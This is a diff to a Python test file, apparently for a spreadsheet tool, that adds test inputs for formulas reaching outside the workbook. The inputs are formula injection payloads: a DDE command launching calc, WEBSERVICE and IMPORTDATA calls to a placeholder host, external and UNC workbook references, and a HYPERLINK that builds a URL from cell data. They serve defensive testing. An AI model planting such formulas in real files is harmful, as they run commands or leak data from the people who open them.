@@ -206,17 +206,23 @@ def test_the_list_is_printed_landscape_as_wide_as_the_paper() -> None:
     assert setup.fitToPage
 
 
-@pytest.mark.parametrize("formula", ['=WEBSERVICE("http://x")', "=cmd|' /C calc'!A0", "=RTD(1)"])
+@pytest.mark.parametrize(
+    "formula",
+    ['=WEBSERVICE("http://x")', "=cmd|' /C calc'!A0", "=RTD(1)", '=DDE("a","b","c")', "=PY(1,0)",
+     "='http://x/[so.xlsx]Tờ'!A1", r"='\\x\y\[so.xlsx]Tờ'!A1", '=IMPORTDATA("http://x")'],
+)  # fmt: skip
 def test_a_formula_that_reaches_out_leaves_its_result(tmp_path: Path, formula: str) -> None:
     path = tmp_path / "so.xlsx"
     book = xlsxwriter.Workbook(path)
     sheet = book.add_worksheet(SHEET)
     sheet.write_formula("B2", formula, None, "kết quả cũ")
     sheet.write_formula("B3", "=1+1", None, 2)
+    sheet.write_formula("B4", '=HYPERLINK("http://x/"&[1]Tờ!A1,"xem")', None, "xem")
     book.close()
     found = marked(path, FAULT)[SHEET]
     assert found["B2"].value == "kết quả cũ"
     assert found["B3"].value == "=1+1"
+    assert found["B4"].value.startswith("=HYPERLINK")  # it waits for a click
 
 
 def test_a_formula_that_calls_a_program_is_written_as_text(own: Path) -> None:
